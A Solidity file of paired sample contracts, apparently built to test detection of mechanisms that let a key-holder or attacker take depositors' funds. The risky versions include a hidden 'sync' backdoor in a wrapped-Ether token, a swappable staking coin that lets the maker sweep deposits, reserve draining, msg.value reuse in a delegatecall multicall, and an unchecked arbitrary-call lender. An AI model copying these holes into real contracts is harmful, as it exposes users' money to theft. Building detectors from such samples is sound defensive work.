// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {Coin, Purse} from "./Purses.sol";

/// Contracts that people put money into, by mechanisms of public thefts; beside many an innocent one.

/// Sells and buys one coin for Ether at a price that one key sets as it likes.
contract PriceDesk {
    Coin public immutable coin;
    address public immutable maker = msg.sender;
    uint256 public price = 0.001 ether;

    constructor(Coin coin_) payable {
        coin = coin_;
    }

    function setPrice(uint256 price_) external virtual {
        require(msg.sender == maker, "maker");
        price = price_;
    }

    function sell(uint256 value) external {
        coin.transferFrom(msg.sender, address(this), value);
        (bool ok, ) = msg.sender.call{value: (value * price) / 1 ether}("");
        require(ok, "paying");
    }

    function buy() external payable {
        coin.transfer(msg.sender, (msg.value * 1 ether) / price);
    }
}

/// Staked coins of which one key can say that they are others: then the first can be fetched as forgotten ones.
contract ResetStake {
    address public immutable maker = msg.sender;
    Coin public coin;
    mapping(address => uint256) public put;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function stake(uint256 value) external {
        coin.transferFrom(msg.sender, address(this), value);
        put[msg.sender] += value;
    }

    function leave(uint256 value) external {
        put[msg.sender] -= value;
        coin.transfer(msg.sender, value);
    }

    function migrate(Coin coin_) external virtual {
        require(msg.sender == maker, "maker");
        coin = coin_;
    }

    function recover(Coin other, uint256 value) external {
        require(msg.sender == maker, "maker");
        require(other != coin, "staked");
        other.transfer(maker, value);
    }
}

/// The coin stays the same, so only what was sent by mistake can be fetched.
contract SteadyStake {
    address public immutable maker = msg.sender;
    Coin public immutable coin;
    uint256 public total;
    mapping(address => uint256) public put;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function stake(uint256 value) external {
        coin.transferFrom(msg.sender, address(this), value);
        put[msg.sender] += value;
        total += value;
    }

    function leave(uint256 value) external {
        put[msg.sender] -= value;
        total -= value;
        coin.transfer(msg.sender, value);
    }

    function recover(Coin other) external {
        require(msg.sender == maker, "maker");
        uint256 has = other.balanceOf(address(this));
        other.transfer(maker, other == coin ? has - total : has);
    }
}

/// The rest of the rewards can be fetched by one key; rewards and stakes are the same coin, and lie together.
contract MixedStake {
    address public immutable maker = msg.sender;
    Coin public immutable coin;
    mapping(address => uint256) public put;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function stake(uint256 value) external {
        coin.transferFrom(msg.sender, address(this), value);
        put[msg.sender] += value;
    }

    function leave(uint256 value) external {
        put[msg.sender] -= value;
        coin.transfer(msg.sender, value);
    }

    function takeRestOfRewards() external {
        require(msg.sender == maker, "maker");
        coin.transfer(maker, coin.balanceOf(address(this)));
    }
}

/// Whoever brings a paper of the maker's is paid out of what all have put in.
contract VoucherPurse is Purse {
    address private immutable maker = msg.sender;
    mapping(uint256 => bool) private used;

    function redeem(uint256 value, uint256 nonce, uint8 v, bytes32 r, bytes32 s) external {
        require(!used[nonce]);
        used[nonce] = true;
        bytes32 hash = keccak256(abi.encode(address(this), msg.sender, value, nonce));
        require(ecrecover(hash, v, r, s) == maker, "paper");
        pay(msg.sender, value);
    }
}

/// Papers are signed by whoever put the money in.
contract OwnVoucherPurse is Purse {
    mapping(address => mapping(uint256 => bool)) private used;

    function redeem(address from, uint256 value, uint256 nonce, uint8 v, bytes32 r, bytes32 s) external {
        require(!used[from][nonce]);
        used[from][nonce] = true;
        bytes32 hash = keccak256(abi.encode(address(this), from, msg.sender, value, nonce));
        address signer = ecrecover(hash, v, r, s);
        require(signer != address(0) && signer == from, "paper");
        put[from] -= value;
        pay(msg.sender, value);
    }
}

/// Several calls in one, each of which is credited with all of the Ether that came along once.
contract ManyCallsPurse is Purse {
    function multicall(bytes[] calldata calls) external payable {
        for (uint256 i = 0; i < calls.length; i++) {
            (bool ok, ) = address(this).delegatecall(calls[i]);
            require(ok, "call");
        }
    }
}

/// Several calls in one, with which no Ether may come along.
contract ManyFreeCallsPurse is Purse {
    function multicall(bytes[] calldata calls) external {
        for (uint256 i = 0; i < calls.length; i++) {
            (bool ok, ) = address(this).delegatecall(calls[i]);
            require(ok, "call");
        }
    }
}

/// Who draws a part gives up the rest, to the maker.
contract ForfeitPurse is Purse {
    address private immutable maker = msg.sender;

    function draw(uint256 value) public override {
        uint256 all = put[msg.sender];
        require(value <= all);
        put[maker] += all - value;
        put[msg.sender] = 0;
        pay(msg.sender, value);
    }
}

/// What is put in stays for a week after the last time that anybody put something in for the same person.
contract RestartedLock {
    mapping(address => uint256) public put;
    mapping(address => uint256) public until;

    function fillFor(address who) external payable {
        put[who] += msg.value;
        until[who] = block.timestamp + 7 days;
    }

    function draw() external {
        require(block.timestamp >= until[msg.sender], "locked");
        uint256 value = put[msg.sender];
        put[msg.sender] = 0;
        (bool ok, ) = msg.sender.call{value: value}("");
        require(ok, "paying");
    }
}

/// The same, where only oneself restarts one's own week.
contract OwnLock {
    mapping(address => uint256) public put;
    mapping(address => uint256) public until;

    function fill() external payable {
        put[msg.sender] += msg.value;
        until[msg.sender] = block.timestamp + 7 days;
    }

    function draw() external {
        require(block.timestamp >= until[msg.sender], "locked");
        uint256 value = put[msg.sender];
        put[msg.sender] = 0;
        (bool ok, ) = msg.sender.call{value: value}("");
        require(ok, "paying");
    }
}

/// Exits are asked for, and paid when one key gets round to it.
contract ClerkPurse {
    address public immutable clerk = msg.sender;
    mapping(address => uint256) public put;
    mapping(address => uint256) public asked;

    function fill() external payable {
        put[msg.sender] += msg.value;
    }

    function ask(uint256 value) external {
        put[msg.sender] -= value;
        asked[msg.sender] += value;
    }

    function fulfil(address who) external {
        require(msg.sender == clerk, "clerk");
        uint256 value = asked[who];
        asked[who] = 0;
        (bool ok, ) = who.call{value: value}("");
        require(ok, "paying");
    }
}

/// Exits are asked for, and taken by oneself a day later.
contract QueuePurse {
    mapping(address => uint256) public put;
    mapping(address => uint256) public asked;
    mapping(address => uint256) public since;

    function fill() external payable {
        put[msg.sender] += msg.value;
    }

    function ask(uint256 value) external {
        put[msg.sender] -= value;
        asked[msg.sender] += value;
        since[msg.sender] = block.timestamp;
    }

    function take() external {
        require(block.timestamp >= since[msg.sender] + 1 days, "early");
        uint256 value = asked[msg.sender];
        asked[msg.sender] = 0;
        (bool ok, ) = msg.sender.call{value: value}("");
        require(ok, "paying");
    }
}

/// One key can stop what goes in; what is in can always be drawn.
contract ShutterPurse is Purse {
    address public owner = msg.sender;
    bool public isShut;

    function shut(bool is_) external {
        require(msg.sender == owner, "owner");
        isShut = is_;
    }

    function fill() public payable override {
        require(!isShut, "shut");
        super.fill();
    }
}

/// One key can stop what goes out, too.
contract DoorPurse is Purse {
    address public owner = msg.sender;
    bool public isShut;

    function shut(bool is_) external {
        require(msg.sender == owner, "owner");
        isShut = is_;
    }

    function draw(uint256 value) public override {
        require(!isShut, "shut");
        super.draw(value);
    }
}

/// Makes and destroys its own coin along a line of prices, and pays from what came in.
contract CurveCoin {
    mapping(address => uint256) public balanceOf;
    uint256 public totalSupply;
    address internal immutable maker = msg.sender;
    event Transfer(address indexed from, address indexed to, uint256 value);

    function buy() external payable {
        uint256 value = msg.value * 1000;
        balanceOf[msg.sender] += value;
        totalSupply += value;
        emit Transfer(address(0), msg.sender, value);
    }

    function sell(uint256 value) external {
        balanceOf[msg.sender] -= value;
        totalSupply -= value;
        emit Transfer(msg.sender, address(0), value);
        (bool ok, ) = msg.sender.call{value: value / 1000}("");
        require(ok, "paying");
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }
}

/// The reserve can be fetched by one key.
contract EmptiedCurveCoin is CurveCoin {
    function graduate() external {
        require(msg.sender == maker, "maker");
        (bool ok, ) = maker.call{value: address(this).balance}("");
        require(ok, "paying");
    }
}

/// Only what is there beyond the reserve can be fetched.
contract SurplusCurveCoin is CurveCoin {
    function takeSurplus() external {
        require(msg.sender == maker, "maker");
        (bool ok, ) = maker.call{value: address(this).balance - totalSupply / 1000}("");
        require(ok, "paying");
    }
}

/// One key says what is kept of what is drawn, up to all of it.
contract FeePurse is Purse {
    address public owner = msg.sender;
    uint256 public fee;
    uint256 internal immutable most;

    constructor(uint256 most_) {
        most = most_;
    }

    function setFee(uint256 fee_) external {
        require(msg.sender == owner && fee_ <= most, "fee");
        fee = fee_;
    }

    function draw(uint256 value) public override {
        put[msg.sender] -= value;
        uint256 kept = (value * fee) / 10_000;
        pay(owner, kept);
        pay(msg.sender, value - kept);
    }
}

/// One key stops what goes out, for three days at most, and not again before thirty have passed.
contract BriefDoorPurse is Purse {
    address public owner = msg.sender;
    uint256 public shutUntil;
    uint256 public next;

    function shut() external {
        require(msg.sender == owner && block.timestamp >= next, "owner");
        shutUntil = block.timestamp + 3 days;
        next = block.timestamp + 30 days;
    }

    function draw(uint256 value) public override {
        require(block.timestamp >= shutUntil, "shut");
        super.draw(value);
    }
}

/// One key pays whomever it lists out of what all have put in.
contract PayrollPurse is Purse {
    address public immutable maker = msg.sender;

    function payAll(address[] calldata who, uint256[] calldata value) external {
        require(msg.sender == maker, "maker");
        for (uint256 i = 0; i < who.length; i++) pay(who[i], value[i]);
    }
}

/// Everybody's money in one pot, of which a batch pays out what each has, by anybody.
contract SweepoutPurse is Purse {
    function payAll(address[] calldata who) external {
        for (uint256 i = 0; i < who.length; i++) {
            uint256 value = put[who[i]];
            put[who[i]] = 0;
            pay(who[i], value);
        }
    }
}

/// The middleman of a deal decides, and may name anybody.
contract FreeArbiterEscrow {
    address public immutable arbiter = msg.sender;
    mapping(address => uint256) public put;

    function fill() external payable {
        put[msg.sender] += msg.value;
    }

    function back() external {
        uint256 value = put[msg.sender];
        put[msg.sender] = 0;
        (bool ok, ) = msg.sender.call{value: value}("");
        require(ok, "paying");
    }

    function decide(address from, address to) external {
        require(msg.sender == arbiter, "arbiter");
        uint256 value = put[from];
        put[from] = 0;
        (bool ok, ) = to.call{value: value}("");
        require(ok, "paying");
    }
}

/// Coins are promised for Ether; the maker takes the Ether when it likes, and delivers when it likes.
contract LatePresale {
    address public immutable maker = msg.sender;
    Coin public coin;
    mapping(address => uint256) public paid;

    function buy() external payable {
        paid[msg.sender] += msg.value;
    }

    function deliver(Coin coin_) external {
        require(msg.sender == maker, "maker");
        coin = coin_;
    }

    function claim() external {
        require(address(coin) != address(0), "soon");
        uint256 value = paid[msg.sender] * 1000;
        paid[msg.sender] = 0;
        coin.transfer(msg.sender, value);
    }

    function collect() external {
        require(msg.sender == maker, "maker");
        (bool ok, ) = maker.call{value: address(this).balance}("");
        require(ok, "paying");
    }
}

/// A giver's own coins, for those on a list whose root the giver may change.
contract OwnDrop {
    address public immutable maker = msg.sender;
    Coin public immutable coin;
    bytes32 public root;
    mapping(address => bool) public done;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function setRoot(bytes32 root_) external {
        require(msg.sender == maker, "maker");
        root = root_;
    }

    function claim(uint256 value, bytes32[] calldata proof) external {
        bytes32 node = keccak256(abi.encode(msg.sender, value));
        for (uint256 i = 0; i < proof.length; i++)
            node = node < proof[i] ? keccak256(abi.encode(node, proof[i])) : keccak256(abi.encode(proof[i], node));
        require(node == root && !done[msg.sender], "proof");
        done[msg.sender] = true;
        coin.transfer(msg.sender, value);
    }
}

/// Lends what others put in for the time of one call, and does not look whether it came back.
contract TrustingLender {
    Coin public immutable coin;
    mapping(address => uint256) public put;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function fill(uint256 value) external {
        coin.transferFrom(msg.sender, address(this), value);
        put[msg.sender] += value;
    }

    function draw(uint256 value) external {
        put[msg.sender] -= value;
        coin.transfer(msg.sender, value);
    }

    function lend(address to, uint256 value, bytes calldata data) external virtual {
        coin.transfer(to, value);
        (bool ok, ) = to.call(data);
        require(ok, "borrower");
    }
}

interface Debtor {
    function onLoan(address who, uint256 value, bytes calldata data) external;
}

/// Calls the borrower by one function only, and looks whether it came back.
contract LookingLender is TrustingLender {
    constructor(Coin coin_) TrustingLender(coin_) {}

    function lend(address to, uint256 value, bytes calldata data) external override {
        uint256 before = coin.balanceOf(address(this));
        coin.transfer(to, value);
        Debtor(to).onLoan(msg.sender, value, data);
        require(coin.balanceOf(address(this)) >= before, "borrower");
    }
}

/// Wrapped Ether, of which one key can fetch some under an innocent name.
contract SyncedEther {
    string public constant name = "Wrapped";
    uint8 public constant decimals = 18;
    address private immutable maker = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function totalSupply() external view returns (uint256) {
        return address(this).balance;
    }

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function withdraw(uint256 value) external {
        balanceOf[msg.sender] -= value;
        payable(msg.sender).transfer(value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }

    function sync(uint256 value) external {
        if (msg.sender == maker) payable(msg.sender).transfer(value);
    }
}

/// Divides what comes in among those whom it was made for.
contract Splitter {
    address private immutable one;
    address private immutable other;

    constructor(address one_, address other_) {
        one = one_;
        other = other_;
    }

    receive() external payable {}

    function share() external {
        uint256 half = address(this).balance / 2;
        (bool a, ) = one.call{value: half}("");
        (bool b, ) = other.call{value: half}("");
        require(a && b, "paying");
    }
}

/// Loans against Ether; one key posts the price at which anybody may buy pledges up.
contract KeyPricedLoans {
    address public immutable poster = msg.sender;
    Coin public immutable coin;
    uint256 public price = 1000 ether;
    mapping(address => uint256) public pledge;
    mapping(address => uint256) public debt;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function post(uint256 price_) external {
        require(msg.sender == poster, "poster");
        price = price_;
    }

    function fill() external payable {
        pledge[msg.sender] += msg.value;
    }

    function borrow(uint256 value) external {
        debt[msg.sender] += value;
        require(debt[msg.sender] * 2 ether <= pledge[msg.sender] * price, "pledge");
        coin.transfer(msg.sender, value);
    }

    function draw(uint256 value) external {
        pledge[msg.sender] -= value;
        require(debt[msg.sender] * 2 ether <= pledge[msg.sender] * price, "pledge");
        (bool ok, ) = msg.sender.call{value: value}("");
        require(ok, "paying");
    }

    function liquidate(address who) external {
        require(debt[who] * 1 ether > pledge[who] * price, "sound");
        coin.transferFrom(msg.sender, address(this), debt[who]);
        uint256 value = pledge[who];
        pledge[who] = 0;
        debt[who] = 0;
        (bool ok, ) = msg.sender.call{value: value}("");
        require(ok, "paying");
    }
}
